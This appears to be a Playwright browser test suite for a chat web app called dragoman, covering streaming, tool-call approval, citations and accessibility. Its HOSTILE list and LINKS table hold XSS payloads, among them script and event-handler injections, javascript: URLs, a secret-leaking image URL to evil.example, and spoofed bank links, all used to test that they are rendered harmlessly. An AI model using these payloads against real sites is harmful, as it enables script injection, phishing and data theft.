"""The page in a real browser, against the real server, with the simulator as the model."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page as Tab, expect

from dragoman import Conversation, Message, Text, Thinking, ToolCall, ToolResult
from dragoman.conversation import Citation, StopReason
from dragoman.simulator import Reply
from dragoman.stores import Snapshot
from dragoman.web.turns import Talks
from tests.rounds import rounds
from tests.web.pages import SLOW, Site, opened, paid, say, serving, wait_for_answer

pytestmark = pytest.mark.slow

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def test_a_first_question(tab: Tab) -> None:
    assert "token" not in tab.url, "the token does not stay in the address"
    expect(tab.locator(".welcome")).to_be_visible()
    say(tab, "hello")
    expect(tab.locator(".message.assistant strong")).to_have_text("hello")
    wait_for_answer(tab)
    expect(tab.locator(".message.assistant footer")).to_contain_text("out")
    expect(tab.locator(".sidebar .title")).to_have_text("hello")
    expect(tab).to_have_title(re.compile("hello . dragoman"))
    nameless = (
        "[...document.querySelectorAll('button, input, textarea, a')].filter((each) => !each.hidden && "
        "!(each.getAttribute('aria-label') || each.textContent.trim() || each.labels?.length)).length"
    )
    assert tab.evaluate(nameless) == 0, "everything that can be used has a name"


def test_stream_is_shown_live_and_after_a_reload(site: Site, tab: Tab) -> None:
    say(tab, "slowly")
    expect(tab.locator(".message.assistant")).to_contain_text("w5")
    assert "w299" not in tab.locator(".message.assistant").inner_text()
    tab.reload()
    expect(tab.locator(".message.user")).to_have_text("slowly")
    expect(tab.locator(".message.assistant")).to_contain_text("w299", timeout=20_000)
    wait_for_answer(tab)
    assert tab.locator(".message.assistant .markdown").inner_text() == SLOW
    assert len(site.simulator.requests) == 1


def test_a_call_is_approved_denied_and_remembered(site: Site, tab: Tab) -> None:
    say(tab, "pay 7")
    card = tab.locator(".card.waiting")
    expect(card.locator("pre").first).to_have_text('{\n  "amount": 7\n}')
    assert paid == []
    card.get_by_text("Allow once").click()
    expect(tab.locator(".message.assistant").last).to_contain_text("Then: paid 7")
    wait_for_answer(tab)

    say(tab, "pay 8")
    tab.get_by_label("Why not").fill("too dear")
    tab.get_by_role("button", name="Deny").click()
    expect(tab.locator(".card.denied")).to_be_visible()
    wait_for_answer(tab)
    assert "too dear" in site.simulator.requests[-1].tool_results[0].text

    say(tab, "pay 9")
    tab.get_by_text("Always allow").click()
    rules = tab.locator(".rules code")
    expect(rules.first).to_contain_text("exactly the arguments")
    assert paid == [7], "showing a rule allows nothing"
    tab.locator(".rules li", has_text="allow pay").last.get_by_role("button").click()
    expect(tab.locator(".message.assistant").last).to_contain_text("Then: paid 9")
    wait_for_answer(tab)
    say(tab, "pay 10")
    expect(tab.locator(".message.assistant").last).to_contain_text("Then: paid 10")
    assert paid == [7, 9, 10]


def test_sources_of_an_answer_are_links_that_name_their_host(browser: Browser) -> None:
    rain = Citation(url="https://www.weather.example/lyon", title="Rain in Lyon", quote="rain", start=0, end=4)
    posing = Citation(url="https://evil.example/a?b=1", title="bank.example\u202e", quote="x", start=5, end=6)
    manual = Citation(document=0, title="manual.pdf")
    scheme = Citation(url="javascript:window.hit=1", title="Click me")
    kept = Message.assistant(Text("As it says there.", citations=(manual, scheme, manual)))
    with serving(lambda _: Reply(Text("Rain, says the forecast.", citations=(rain, posing, rain)))) as site:
        talk = Conversation().plus(Message.user("Where?"), kept)
        site.store.save(Snapshot.first(talk, provider="anthropic", model="claude-sonnet-4-5"))
        with opened(browser, site) as tab:
            tab.locator(".sidebar li a").click()
            expect(tab.locator(".sources li")).to_have_text(["manual.pdf", "Click me"])
            expect(tab.locator(".sources a")).to_have_count(0)
            say(tab, "And the weather?")
            wait_for_answer(tab)
            sources = tab.locator(".message.assistant").last.locator(".sources")
            for _ in range(2):
                expect(sources.locator("a")).to_have_text(["Rain in Lyon", "bank.example⟨U+202E⟩"])
                expect(sources.locator("small")).to_have_text(["www.weather.example", "evil.example"])
                assert sources.locator("a").first.get_attribute("href") == rain.url
                assert sources.locator("a").first.get_attribute("rel") == "noopener noreferrer nofollow"
                tab.reload()


def test_an_answer_is_stopped_in_the_middle(tab: Tab) -> None:
    say(tab, "endlessly")
    expect(tab.locator(".message.assistant")).to_contain_text("w5")
    tab.keyboard.press("Escape")
    wait_for_answer(tab)
    expect(tab.locator(".message.assistant")).to_contain_text("stopped here")
    assert "w299" not in tab.locator(".message.assistant").inner_text()


def test_files_are_dropped_and_pasted(site: Site, tab: Tab) -> None:
    script = """async ([kind, name, data]) => {
        const transfer = new DataTransfer();
        const bytes = Uint8Array.from(atob(data), (each) => each.charCodeAt(0));
        transfer.items.add(new File([bytes], name, {type: "image/png"}));
        const event = kind === "drop"
            ? new DragEvent("drop", {dataTransfer: transfer, bubbles: true})
            : new ClipboardEvent("paste", {clipboardData: transfer, bubbles: true});
        document.getElementById("composer").dispatchEvent(event);
    }"""
    for kind, name in (("drop", "dropped.png"), ("paste", "pasted.png")):
        tab.evaluate(script, [kind, name, base64.b64encode(PIXEL).decode()])
        expect(tab.locator(".attachments")).to_contain_text(name)
    say(tab, "look")
    wait_for_answer(tab)
    expect(tab.locator(".message.user img")).to_have_count(2)
    content = json.loads(site.simulator.requests[0].raw)["messages"][0]["content"]
    assert [part["type"] for part in content] == ["image", "image", "text"]
    tab.reload()
    assert (
        tab.locator(".message.user img").first.evaluate("(image) => image.decode().then(() => image.naturalWidth)") == 1
    )


def test_search_rename_export_and_delete(browser: Browser) -> None:
    with serving() as site, opened(browser, site, accept_downloads=True) as tab:
        for text in ("about whales", "about trains"):
            tab.keyboard.press("Control+Shift+O")
            say(tab, text)
            wait_for_answer(tab)
        expect(tab.locator(".sidebar .title")).to_have_text(["about trains", "about whales"])
        tab.keyboard.press("Control+K")
        tab.keyboard.type("whales")
        expect(tab.locator(".sidebar .title")).to_have_text(["about whales"])
        tab.locator(".sidebar li a").click()
        expect(tab.locator(".message.user")).to_have_text("about whales")

        tab.get_by_label("Rename about whales").click()
        tab.keyboard.type("Large animals")
        tab.keyboard.press("Enter")
        expect(tab.locator(".top h1")).to_have_text("Large animals")

        tab.get_by_label("Export").click()
        with tab.expect_download() as coming:
            tab.get_by_text("Markdown, to be read").click()
        written = coming.value.path().read_text()
        assert written.startswith("# Large animals")
        assert "You said **about whales**." in written

        tab.locator(".sidebar li").first.hover()
        tab.get_by_label("Delete Large animals").click()
        tab.get_by_role("button", name="Delete", exact=True).click()
        expect(tab.locator(".welcome")).to_be_visible()
        assert [each.title for each in site.store.list().items] == ["about trains"]


def test_a_dead_server_and_its_return(site: Site, tab: Tab) -> None:
    say(tab, "hello")
    wait_for_answer(tab)
    site.stop()
    say(tab, "are you there?")
    expect(tab.locator(".notice.warning")).to_contain_text("does not answer")
    expect(tab.locator("#composer")).to_have_value("are you there?")
    site.restart()
    expect(tab.locator(".notice.warning")).to_have_count(0, timeout=20_000)
    tab.keyboard.press("Enter")
    expect(tab.locator(".message.assistant").last).to_contain_text("are you there?")


def test_what_failed_can_be_sent_again(tab: Tab) -> None:
    say(tab, "broken")
    expect(tab.locator(".notice.error")).to_contain_text("This is broken.")
    expect(tab.locator("#composer")).to_have_value("broken")


def test_an_edit_is_a_fork(tab: Tab) -> None:
    say(tab, "one")
    wait_for_answer(tab)
    say(tab, "two")
    wait_for_answer(tab)
    first = tab.url
    tab.locator(".message.user").last.hover()
    tab.locator(".message.user").last.get_by_label("Edit and ask again").click()
    tab.keyboard.press("Control+A")
    tab.keyboard.type("three")
    tab.keyboard.press("Enter")
    expect(tab.locator(".message.assistant").last).to_contain_text("You said three")
    assert tab.url != first
    expect(tab.locator(".message.user")).to_have_text(["one", "three"])
    tab.goto(first)
    expect(tab.locator(".message.user")).to_have_text(["one", "two"])


def test_model_switch_shows_losses_first(site: Site, tab: Tab) -> None:
    say(tab, "cities")
    wait_for_answer(tab)
    tab.get_by_label("Model: anthropic").click()
    tab.get_by_role("button", name="openai:gpt-4o").click()
    expect(tab.locator("dialog .losses")).to_contain_text("thinking")
    tab.get_by_text("Go on with it").click()
    expect(tab.get_by_label("Model: openai:gpt-4o")).to_be_visible()
    say(tab, "hello")
    wait_for_answer(tab)
    assert site.simulator.requests[-1].model == "gpt-4o"


def test_timeline_of_turns_of_an_earlier_server(site: Site, tab: Tab) -> None:
    say(tab, "cities")
    wait_for_answer(tab)
    site.stop()
    site.restart()
    tab.reload()
    tab.get_by_label("Timeline of the turns").click()
    spans = tab.locator(".turn li")
    expect(spans).to_have_count(4)
    told = [spans.nth(place).get_attribute("aria-label") or "" for place in range(4)]
    assert [each.split(":")[0].split()[0] for each in told] == ["model", "tool", "tool", "model"]
    assert "first token after" in told[0]
    assert all("took" in each for each in told)


def test_thousands_of_messages(browser: Browser, record_property: Callable[[str, object], None]) -> None:
    count = rounds(5_000)
    said = [
        Message.user(f"question {number}")
        if number % 2 == 0
        else Message.assistant(f"Answer **{number}**.\n\n- a\n- b")
        for number in range(count)
    ]
    with serving() as site:
        site.store.save(
            Snapshot.first(Conversation(messages=tuple(said)), provider="anthropic", model="claude-sonnet-4-5")
        )
        with opened(browser, site) as tab:
            tab.locator(".sidebar li a").click()
            expect(tab.locator(".message").last).to_contain_text(f"Answer {count - 1}")
            most = 0
            for _ in range(200):
                tab.locator(".talk").evaluate("(area) => { area.scrollTop = 0; }")
                tab.wait_for_timeout(30)
                most = max(most, tab.locator(".message").count())
                if tab.locator(".message", has_text="question 0").count():
                    break
            tab.locator(".talk").evaluate("(area) => { area.scrollTop = 0; }")
            expect(tab.locator(".message").first).to_have_text("question 0")
            assert most < 500, "what nobody looks at is not drawn"
            # A long scroll, a screen in each frame: no frame is asked to lay out more than what is seen.
            frames = tab.locator(".talk").evaluate("""(area) => new Promise((done) => {
                const times = []; let last = performance.now();
                const step = () => {
                    const now = performance.now(); times.push(now - last); last = now;
                    area.scrollTop += area.clientHeight;
                    times.length < 120 ? requestAnimationFrame(step) : done(times.slice(1).sort((a, b) => a - b));
                };
                requestAnimationFrame(step);
            })""")
            record_property("median frame, ms", frames[len(frames) // 2])
            say(tab, "still there?")
            expect(tab.locator(".message.assistant").last).to_contain_text("still there?")


HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 2'>",
    "<svg onload='window.hit = 3'><animate onbegin='window.hit = 3'></svg>",
    "<iframe srcdoc='<script>parent.hit = 4</script>'></iframe>",
    "[click](javascript:window.hit=5)",
    "[click](data:text/html,<script>window.hit=6</script>)",
    "<a href='&#106;avascript:window.hit=7'>click</a>",
    "![x](https://evil.example/leak?secret=8)",
    "<style>@import url(https://evil.example/9.css); body { display: none }</style>",
    "<form action='https://evil.example/10'><input name=q><button>Send</button></form>",
    "```<script>window.hit=11</script>\n</code></pre><script>window.hit = 11</script>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=12></style></mglyph></table></mtext></math>",
    "[https://bank.example](https://evil.example/13)",
    "safe \u202e gnp.exe \u2066hidden\u2069 \u0007\u001b[31mred\u001b[0m",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/15'>",
    "<div id=app class=welcome style='position:fixed;inset:0' onclick='window.hit=16'>x</div><dialog open>hi</dialog>",
]


def test_hostile_outputs_are_harmless(browser: Browser) -> None:
    """Each as text, as a thought, as an argument and as a result; and each in a stream as well, all at once."""
    talk = Conversation()
    for number, text in enumerate(HOSTILE):
        call = ToolCall(f"c{number}", "weather", json.dumps({"city": text}, ensure_ascii=False))
        result = ToolResult(call.id, "weather", (Text(text),))
        answer = Message.assistant(Thinking(text, "any"), Text(text), call)
        talk = talk.plus(Message.user(text), answer, Message.tool([result]), Message.assistant("done"))
    with serving(lambda _: Reply(*HOSTILE, delta=3)) as site:
        site.store.save(Snapshot.first(talk, provider="anthropic", model="claude-sonnet-4-5", title=HOSTILE[0]))
        with opened(browser, site) as tab:
            tab.locator(".sidebar li a").click()
            expect(tab.locator(".message")).to_have_count(3 * len(HOSTILE))
            tab.evaluate("document.querySelectorAll('.card-head, .thinking summary').forEach((each) => each.click())")
            say(tab, "all of them")
            wait_for_answer(tab)
            for link in tab.locator(".markdown a").all():
                assert (link.get_attribute("href") or "").startswith("https://")
                assert link.get_attribute("rel") == "noopener noreferrer nofollow"
            tab.evaluate(
                "document.querySelectorAll('.markdown *').forEach((each) => each.tagName === 'A' || each.click())"
            )
            assert tab.evaluate("window.hit") is None
            bad = "script, img, svg, iframe, style, form, input, base, meta, dialog, [onclick], [style], [id]"
            assert tab.locator(f".markdown :is({bad})").count() == 0
            expect(tab.locator(".leads-to").first).to_have_text("(evil.example)")
            shown = tab.evaluate("document.body.textContent")
            assert "⟨U+202E⟩" in shown
            assert not any(sign in shown for sign in "\u202e\u2066\u0007\u001b")


def test_narrow_screens_and_keys(browser: Browser) -> None:
    with serving() as site, opened(browser, site, viewport={"width": 360, "height": 640}) as tab:
        expect(tab.get_by_role("textbox", name="Your message")).to_be_focused()
        tab.keyboard.press("Shift+Tab")
        tab.keyboard.press("/")
        expect(tab.get_by_role("textbox", name="Your message")).to_be_focused()
        say(tab, "pay 7")
        expect(tab.locator(".card.waiting")).to_be_visible()
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out"
        expect(tab.locator(".sidebar")).not_to_be_in_viewport()
        tab.get_by_role("button", name="Conversations", exact=True).click()
        expect(tab.locator(".sidebar .title")).to_have_text("pay 7")
        tab.get_by_label("Close the list").click()
        tab.get_by_text("Allow once").focus()
        tab.keyboard.press("Enter")
        expect(tab.locator(".message.assistant").last).to_contain_text("Then: paid 7")


def test_unsent_text_returns_to_the_field(site: Site, tab: Tab, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another program writes between the last look at the store and the turn, so that the turn fails."""
    say(tab, "hello")
    wait_for_answer(tab)
    id = tab.url.rpartition("/")[2]

    async def look_away(talks: Talks, talk: object) -> None:
        newest = site.store.latest(id)
        site.store.save(newest.next(newest.conversation.plus(Message.user("other"), Message.assistant("words"))))

    monkeypatch.setattr(Talks, "_catch_up", look_away)
    say(tab, "important words")
    expect(tab.locator(".notice")).to_be_visible()
    expect(tab.locator("#composer")).to_have_value("important words")
    expect(tab.locator(".message.assistant").last).to_contain_text("words")


LINKS = {
    "[https://accounts.bank.example/evil.example](https://evil.example)": True,
    "[**see https://bank.example**](https://evil.example)": True,
    "[bank\\.example](https://evil.example)": True,
    "[bank&#46;example](https://evil.example)": True,
    "[https://bank\u200b.example](https://evil.example)": True,
    "https://bank.example@evil.example/": True,
    "https://www.bank.example/a/b.html": False,
    "[bank.example](https://www.bank.example/)": False,
    "[Python 3.12](https://bank.example)": False,
}


def test_links_arguments_and_absurd_texts_are_shown_safely(browser: Browser) -> None:
    call = ToolCall("c", "pay", '{"amount": 9007199254740993, "to": "DE\u200b89", "amount": 1.0}')
    absurd = [">" * 3_000 + "x", "_" * 10_000, "\n".join("  " * deep + "- a" for deep in range(1_500))]
    talk = Conversation().plus(
        Message.user("links"), *[Message.assistant(text) for text in LINKS], *map(Message.assistant, absurd)
    )
    talk = talk.plus(Message.user("pay"), Message.assistant(call))
    with serving() as site:
        site.store.save(Snapshot.first(talk, provider="anthropic", model="claude-sonnet-4-5"))
        with opened(browser, site) as tab:
            tab.locator(".sidebar li a").click()
            shown = tab.locator("pre.plain")
            expect(shown).to_contain_text('"amount": 9007199254740993,')
            expect(shown).to_contain_text('"DE⟨U+200B⟩89"')
            expect(shown).to_contain_text('"amount": 1.0')
            answers = tab.locator(".message.assistant")
            for place, (text, told) in enumerate(LINKS.items()):
                expect(answers.nth(place).locator("a")).to_have_count(1)
                assert (answers.nth(place).locator(".leads-to").count() == 1) is told, text
            for place in range(len(LINKS), len(LINKS) + len(absurd)):
                expect(answers.nth(place).locator("pre")).to_have_count(1)


def test_an_answer_that_is_missing_or_cut_says_so(browser: Browser) -> None:
    script = ["", "", Reply("Half an ans", stop_reason=StopReason.MAX_TOKENS)]
    with serving(script) as site, opened(browser, site) as tab:
        say(tab, "hello")
        expect(tab.get_by_text("The model gave no answer: its reply was empty, twice in a row.")).to_be_visible()
        say(tab, "hello?")
        expect(tab.get_by_text("The answer was cut at the limit of tokens.")).to_be_visible()
